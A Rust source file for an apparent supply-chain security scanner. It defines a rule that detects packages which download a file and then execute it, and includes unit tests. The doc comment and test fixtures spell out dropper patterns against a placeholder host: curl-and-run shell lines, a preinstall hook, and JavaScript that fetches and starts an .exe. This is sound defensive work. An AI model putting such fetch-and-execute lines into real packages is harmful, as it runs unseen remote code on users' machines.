use palisade_diagnostics::{Finding, Severity};

use crate::context::ScanContext;
use crate::rule::{Rule, RuleMeta, declare_rule};

declare_rule! {
    /// ## What it does
    /// Finds code and scripts that download a file and then run it: a network
    /// response written or piped to a file that a later command starts, or a
    /// shell script that fetches with `curl -o`/`wget -O`/`certutil` and
    /// then runs the result. Critical at install, and at run time when the
    /// file is a Windows program (`.exe`, `.scr`, `.ps1`...) or lands in a
    /// temporary folder from a computed, raw-IP or plain `http://` source;
    /// high otherwise (tools fetch their own binaries).
    ///
    /// ## Why is this bad?
    /// The program that runs is whatever the server sends that day; nothing in
    /// the package shows it. This is the dropper pattern.
    ///
    /// ## Example
    /// ```sh
    /// curl http://x.invalid/payload -o /tmp/p && chmod +x /tmp/p && /tmp/p
    /// ```
    ///
    /// ## References
    /// - MITRE ATT&CK T1105 (Ingress Tool Transfer), T1204.
    DownloadAndRun {
        id: "exec/download-and-run",
        severity: Critical,
        status: Stable,
        summary: "A downloaded file is executed",
    }
}

fn basename(p: &str) -> &str {
    p.trim_matches(|c| c == '"' || c == '\'')
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(p)
}

/// The file a shell download line writes (`-o x`, `-O x`, `certutil ... x`).
fn shell_download_target(cmd: &str) -> Option<&str> {
    let lower = cmd.to_ascii_lowercase();
    if !(lower.contains("curl")
        || lower.contains("wget")
        || lower.contains("certutil")
        || lower.contains("invoke-webrequest")
        || lower.contains("iwr"))
    {
        return None;
    }
    let words: Vec<&str> = cmd.split_whitespace().collect();
    for (i, w) in words.iter().enumerate() {
        if matches!(
            *w,
            "-o" | "-O" | "--output" | "--output-document" | "-OutFile"
        ) {
            return words.get(i + 1).copied();
        }
    }
    if lower.contains("certutil") && lower.contains("urlcache") {
        return words.last().copied();
    }
    None
}

/// A run-time download that is a dropper rather than a tool fetching its
/// binary: saved into a temporary folder, from a server the code does not
/// name (its host computed, a raw IP) or over plain `http://`.
fn hidden_drop(ctx: &ScanContext<'_>, name: &str, dl: &palisade_diagnostics::Fact) -> bool {
    let in_temp = ctx.facts.other.iter().any(|o| {
        o.kind == "download-to-file"
            && o.at.location.path == dl.location.path
            && basename(&o.detail).eq_ignore_ascii_case(name)
            && {
                let d = o.detail.to_ascii_lowercase();
                d.starts_with("/tmp/")
                    || d.starts_with("/var/tmp/")
                    || d.starts_with("/dev/shm/")
                    || d.contains("\\temp\\")
                    || d.contains("\\appdata\\local\\temp")
                    || d.starts_with("c:\\users\\public\\")
            }
    });
    in_temp
        && ctx.facts.network.iter().any(|n| {
            n.api.is_some()
                && n.at.location.path == dl.location.path
                && n.destination.as_deref().is_some_and(|d| {
                    d.starts_with("http://")
                        || n.host.is_none()
                        || n.host_kind
                            .is_some_and(|k| k != palisade_diagnostics::HostKind::Domain)
                })
        })
}

impl Rule for DownloadAndRun {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        // What gets downloaded, by file name, and where.
        let mut downloads: Vec<(String, &palisade_diagnostics::Fact)> = ctx
            .facts
            .other
            .iter()
            .filter(|o| o.kind == "download-to-file")
            .map(|o| (basename(&o.detail).to_ascii_lowercase(), &o.at))
            .collect();
        downloads.extend(ctx.facts.scripts.iter().filter_map(|s| {
            shell_download_target(&s.command).map(|t| (basename(t).to_ascii_lowercase(), &s.at))
        }));
        // `exec('curl -o x.exe https://…')` from code.
        downloads.extend(ctx.facts.processes.iter().filter_map(|p| {
            let cmd = p.command.as_deref()?;
            shell_download_target(cmd).map(|t| (basename(t).to_ascii_lowercase(), &p.at))
        }));
        downloads.retain(|(name, _)| name.len() > 1 && name != "*");
        if downloads.is_empty() {
            return;
        }
        // A download written outside the package at install, even when its
        // launch is not visible here (a later stage runs it).
        for o in ctx
            .facts
            .other
            .iter()
            .filter(|o| o.kind == "download-to-file" && o.at.install_time)
        {
            let outside =
                o.detail.starts_with('~') || o.detail.starts_with('/') || o.detail.contains(":\\");
            if outside {
                out.push(
                    ctx.at(
                        Finding::new(
                            Self::META.id,
                            Severity::High,
                            format!(
                                "downloads into `{}`, outside the package, at install",
                                o.detail
                            ),
                        ),
                        &o.at.location,
                    )
                    .at_install_time(true)
                    .with_capability("remote-code"),
                );
            }
        }
        let runs = ctx
            .facts
            .processes
            .iter()
            .filter_map(|p| Some((p.command.as_deref()?, &p.at)))
            .chain(
                ctx.facts
                    .scripts
                    .iter()
                    .map(|s| (s.command.as_str(), &s.at)),
            );
        let mut reported = std::collections::HashSet::new();
        for (cmd, at) in runs {
            let lower = cmd.to_ascii_lowercase();
            if shell_download_target(cmd).is_some() && !lower.contains("&&") && !lower.contains(';')
            {
                continue; // the download line itself
            }
            let words: Vec<&str> = lower
                .split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '"' | '\''))
                .collect();
            for (name, dl) in &downloads {
                let runs_it = words.iter().enumerate().any(|(i, w)| {
                    basename(w) == name.as_str()
                        && (i == 0
                            || matches!(
                                words[i - 1],
                                "start"
                                    | "sh"
                                    | "bash"
                                    | "node"
                                    | "exec"
                                    | ""
                                    | "/b"
                                    | "cmd"
                                    | "/c"
                            )
                            || w.starts_with("./")
                            || w.starts_with('/'))
                        && !(i > 0 && matches!(words[i - 1], "-o" | "-O" | "--output"))
                });
                if !runs_it || !reported.insert(name.clone()) {
                    continue;
                }
                let install = at.install_time || dl.install_time;
                // A Windows program opened with `start` (or by name) right
                // after it was downloaded: a dropper, not a tool's binary.
                let windows_program = [
                    ".exe", ".scr", ".msi", ".bat", ".cmd", ".ps1", ".vbs", ".hta",
                ]
                .iter()
                .any(|e| name.ends_with(e));
                let severity = if install || windows_program || hidden_drop(ctx, name, dl) {
                    Severity::Critical
                } else {
                    Severity::High
                };
                out.push(
                    ctx.at(
                        Finding::new(
                            Self::META.id,
                            severity,
                            format!("runs the downloaded file `{name}`: `{cmd}`"),
                        ),
                        &at.location,
                    )
                    .at_install_time(install)
                    .with_capability("remote-code"),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    #[test]
    fn rule() {
        Tester::new(&DownloadAndRun::META).test(
            &[
                Case::Files(&[
                    ("package.json", r#"{"name":"a","scripts":{"preinstall":"sh setup.sh"}}"#),
                    ("setup.sh", "curl http://x.invalid/payload -o /tmp/payload\nchmod +x /tmp/payload\n/tmp/payload\n"),
                ]),
                Case::Js(
                    "const http = require('http'), fs = require('fs'), cp = require('child_process');\nhttp.get('https://x.invalid/bin', (res) => {\n  res.pipe(fs.createWriteStream('./bin/tool'));\n  res.on('end', () => cp.execFile('./bin/tool', ['--version']));\n});",
                ),
                Case::Js(
                    "const { exec } = require('child_process');\nconst url = 'https://x.invalid/client.exe';\nfunction fetchAndOpen(u, dest) {\n  exec(`curl -o ${dest} ${u}`, (err) => { if (!err) exec(`start ${dest}`); });\n}\nfetchAndOpen(url, 'client.exe');",
                ),
                Case::Js(
                    "const http = require('http'), fs = require('fs'), cp = require('child_process');\nhttp.get('http://x.invalid/bin', (res) => {\n  res.pipe(fs.createWriteStream('/tmp/glomus'));\n  res.on('end', () => cp.exec('/tmp/glomus'));\n});",
                ),
            ],
            &[
                Case::Files(&[
                    ("package.json", r#"{"name":"a","scripts":{"postinstall":"sh setup.sh"}}"#),
                    ("setup.sh", "curl http://x.invalid/data.json -o data.json\nnode build.js\n"),
                ]),
                Case::Js("https.get(url, (res) => res.pipe(fs.createWriteStream('out.tgz')));\nexec('tar xzf archive.tgz');"),
            ],
        );
    }
}
